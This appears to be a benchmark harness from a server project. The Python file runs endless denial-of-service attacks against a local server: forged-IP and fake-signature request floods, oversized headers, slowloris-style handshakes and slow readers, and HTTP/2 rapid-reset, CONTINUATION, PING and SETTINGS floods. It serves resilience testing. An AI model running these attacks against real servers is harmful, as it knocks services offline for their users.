"""What bench/attacks/run.py has against the server: each attack is a function that goes on until it is killed.

    attackers.py NAME PLAIN_PORT TLS_PORT
"""

import contextlib
import itertools
import pathlib
import secrets
import socket
import ssl
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "tests/support"))
import http2 as h2  # noqa: E402
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, SETTINGS, frame  # noqa: E402

HOST = "images.example"
HELD = 200  # connections of those who hold some


def context(protocols=()):
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    if protocols:
        made.set_alpn_protocols(list(protocols))
    return made


def connect(port, receive_buffer=None):
    wire = socket.socket()
    if receive_buffer:
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    wire.settimeout(5)
    wire.connect(("127.0.0.1", port))
    return wire


def head(path, *lines, host=HOST):
    return "\r\n".join([f"GET {path} HTTP/1.1", f"Host: {host}", *lines, "", ""]).encode()


def drain(wire):
    with contextlib.suppress(OSError):
        while wire.recv(1 << 16):
            pass


def requests(make, answers=1):
    """Sends what make() gives on one connection after the other, for as long as each takes it."""
    def attack(plain, _):
        while True:
            with contextlib.suppress(OSError), connect(plain) as wire:
                for _ in range(1000):
                    wire.sendall(make())
                    if not wire.recv(1 << 16):
                        break
    return attack


numbers = itertools.count()


def forged():
    return head("/uploads/a.jpg", f"CF-Connecting-IP: 203.0.113.{next(numbers) % 256}", "X-Forwarded-For: 198.51.100.1",
                "X-Edge: wrong")


def altered():
    """Signatures that nobody made."""
    return head(f"/uploads/private/a.jpg?verify=1767225600-{secrets.token_urlsafe(32)}", "X-Edge: 0123456789abcdef")


def many_names():
    return head(f"/uploads/original/2026/01/01/{secrets.token_hex(16)}.jpg?{secrets.token_hex(500)}", "X-Edge: 0123456789abcdef")


def large_heads():
    return head("/uploads/a.jpg", *(f"X-{number}: {'x' * 600}" for number in range(190)))


def too_large_heads(plain, _):
    while True:
        with contextlib.suppress(OSError), connect(plain) as wire:
            wire.sendall(head("/uploads/a.jpg", *(f"X-{number}: {'x' * 6000}" for number in range(190))))
            drain(wire)


def handshakes(_, tls):
    """Full ones, one after the other, with nothing asked."""
    client = context()
    while True:
        with contextlib.suppress(OSError), client.wrap_socket(connect(tls), server_hostname=HOST):
            pass


def slow_handshakes(_, tls):
    """As many as are let in, a byte of a hello at a time."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    wires = [(connect(tls), iter(hello)) for _ in range(HELD)]
    while True:
        for index, (wire, rest) in enumerate(wires):
            try:
                wire.sendall(bytes([next(rest)]))
            except (OSError, StopIteration):
                wire.close()
                wires[index] = (connect(tls), iter(hello))


def slow_readers(plain, _):
    """Ask for large files, and read a little now and then."""
    def begin():
        wire = connect(plain, 4096)
        wire.sendall(head("/uploads/large.jpg", "X-Edge: 0123456789abcdef"))
        return wire
    wires = [begin() for _ in range(HELD)]
    while True:
        for index, wire in enumerate(wires):
            try:
                if not wire.recv(100):
                    raise OSError
            except OSError:
                wire.close()
                wires[index] = begin()


def http2(pour):
    """Sends what pour(wire) gives, on one connection after the other; what is answered is read and dropped."""
    def attack(_, tls):
        while True:
            with contextlib.suppress(OSError, AssertionError), h2.Http2Wire(("127.0.0.1", tls), context(), host=HOST) as wire:
                wire.wire.socket.settimeout(0.001)
                for piece in pour(wire):
                    with contextlib.suppress(TimeoutError):
                        wire.wire.socket.sendall(piece)
                    with contextlib.suppress(TimeoutError):
                        while wire.wire.socket.recv(1 << 16):
                            pass
    return attack


def taken_back(wire):
    for _ in range(10):
        piece = b""
        for _ in range(200):
            data, stream = wire.head("/uploads/large.jpg", ("x-edge", "0123456789abcdef"))
            piece += data + h2.rst(stream)
        yield piece


def continuations(_):
    yield frame(HEADERS, END_STREAM, 1, b"") + frame(CONTINUATION, 0, 1, b"x" * 100) * 1000


def packed(wire):
    yield wire.head("/", ("x-bomb", "x" * 3900))[0]
    while True:
        _, stream = wire.head("/")
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, wire.encoder.encode(wire.fields("/")) + b"\xbe" * 16_000)


ATTACKS = {
    "forged addresses": requests(forged),
    "altered signatures": requests(altered),
    "names that are not there": requests(many_names),
    "large heads": requests(large_heads),
    "heads above the limit": too_large_heads,
    "handshakes": handshakes,
    "slow handshakes": slow_handshakes,
    "slow readers": slow_readers,
    "HTTP/2, requests taken back": http2(taken_back),
    "HTTP/2, continuations": http2(continuations),
    "HTTP/2, packed heads": http2(packed),
    "HTTP/2, pings": http2(lambda _: itertools.repeat(frame(PING, payload=b"8" * 8) * 500)),
    "HTTP/2, settings": http2(lambda _: itertools.repeat(frame(SETTINGS) * 500)),
    "HTTP/2, empty bodies": http2(lambda wire: itertools.chain(
        [wire.head("/uploads/a.jpg", method="POST", end=False)[0]], itertools.repeat(frame(DATA, 0, 1) * 500))),
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*map(int, sys.argv[2:4]))
